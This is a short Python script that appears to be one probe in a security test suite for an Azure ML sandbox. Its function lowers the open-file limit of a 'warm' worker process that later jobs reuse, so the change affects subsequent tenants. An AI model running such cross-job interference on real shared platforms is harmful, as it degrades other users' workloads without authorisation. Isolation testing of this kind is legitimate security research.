"""Sets the limits of the warm process, which the next jobs would have."""

import resource

from attack import BAIT, attack


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    resource.prlimit(
        BAIT["warm_pid"], resource.RLIMIT_NOFILE, (64, resource.prlimit(BAIT["warm_pid"], resource.RLIMIT_NOFILE)[1])
    )
    return "set the limits of the warm process"
